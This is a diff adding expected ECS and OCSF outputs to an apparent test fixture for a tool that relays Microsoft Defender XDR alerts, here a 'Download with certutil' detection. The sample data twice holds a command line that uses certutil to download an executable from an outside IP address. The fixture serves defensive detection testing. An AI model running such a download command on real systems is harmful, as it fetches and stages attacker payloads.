@@ -22,6 +22,160 @@ const EXPECTED: Readonly<Record<Shape, unknown>> = {
     properties: sample.event,
   },
   relay: sample,
+  ecs: {
+    '@timestamp': '2026-11-23T07:01:02.1234567Z',
+    ecs: {
+      version: '9.4.0',
+    },
+    event: {
+      kind: 'alert',
+      module: 'microsoft_defender_xdr',
+      dataset: 'microsoft_defender_xdr.device_process_events',
+      id: 'da54bca6a00ac14ebb8630537a60f242',
+      created: '2026-11-23T07:03:00.0000000Z',
+      severity: 4,
+      category: ['process'],
+      type: ['info'],
+    },
+    organization: {
+      id: '11111111-2222-3333-4444-555555555555',
+    },
+    message: 'Download with certutil',
+    tags: ['attack.command-and-control', 'attack.t1105'],
+    rule: {
+      name: 'Download with certutil',
+      id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
+      description: 'certutil fetches a file, which administrators seldom do.',
+    },
+    threat: {
+      framework: 'MITRE ATT&CK',
+      tactic: {
+        name: ['Command and Control'],
+        id: ['TA0011'],
+      },
+      technique: {
+        id: ['T1105'],
+      },
+    },
+    related: {
+      hosts: ['ws-042.contoso.example'],
+      user: ['alice@contoso.example'],
+    },
+    host: {
+      id: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
+      name: 'ws-042.contoso.example',
+    },
+    process: {
+      name: 'certutil.exe',
+      command_line: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
+      parent: {
+        name: 'cmd.exe',
+      },
+    },
+    user: {
+      email: 'alice@contoso.example',
+    },
+    microsoft: {
+      defender_xdr: {
+        ReportId: 7,
+      },
+    },
+    xdr_relay: {
+      blob: sample.source.blob,
+      offset: 11550,
+      event_id: '00000000000000000000000000000007',
+      matched: [
+        {
+          column: 'FileName',
+          value: 'certutil.exe',
+        },
+      ],
+    },
+  },
+  ocsf: {
+    activity_id: 1,
+    activity_name: 'Create',
+    category_uid: 2,
+    class_uid: 2004,
+    class_name: 'Detection Finding',
+    metadata: {
+      log_name: 'AdvancedHunting-DeviceProcessEvents',
+      original_time: '2026-11-23T07:01:02.1234567Z',
+      product: {
+        name: 'Microsoft Defender XDR',
+        vendor_name: 'Microsoft',
+      },
+      tenant_uid: '11111111-2222-3333-4444-555555555555',
+      uid: 'da54bca6a00ac14ebb8630537a60f242',
+      version: '1.8.0',
+    },
+    observables: [
+      {
+        name: 'device.hostname',
+        type_id: 1,
+        type: 'Hostname',
+        value: 'ws-042.contoso.example',
+      },
+    ],
+    severity_id: 4,
+    time: 1795417262123,
+    type_uid: 200401,
+    finding_info: {
+      uid: 'da54bca6a00ac14ebb8630537a60f242',
+      title: 'Download with certutil',
+      desc: 'certutil fetches a file, which administrators seldom do.',
+      analytic: {
+        name: 'Download with certutil',
+        uid: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
+        type_id: 1,
+      },
+      attacks: [
+        {
+          technique: {
+            uid: 'T1105',
+          },
+          tactics: [
+            {
+              name: 'Command and Control',
+              uid: 'TA0011',
+            },
+          ],
+        },
+      ],
+      related_events: [
+        {
+          uid: '00000000000000000000000000000007',
+        },
+      ],
+    },
+    is_alert: true,
+    message: 'Download with certutil',
+    status_id: 1,
+    device: {
+      uid: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
+      hostname: 'ws-042.contoso.example',
+      type_id: 0,
+    },
+    unmapped: {
+      Timestamp: '2026-11-23T07:01:02.1234567Z',
+      AccountUpn: 'alice@contoso.example',
+      FileName: 'certutil.exe',
+      InitiatingProcessFileName: 'cmd.exe',
+      ProcessCommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
+      ReportId: 7,
+      xdr_relay: {
+        blob: sample.source.blob,
+        offset: 11550,
+        event_id: '00000000000000000000000000000007',
+        matched: [
+          {
+            column: 'FileName',
+            value: 'certutil.exe',
+          },
+        ],
+      },
+    },
+  },
 };
 
 const MACHINES = DESTINATIONS.filter(({ audience }) => audience === 'machines');
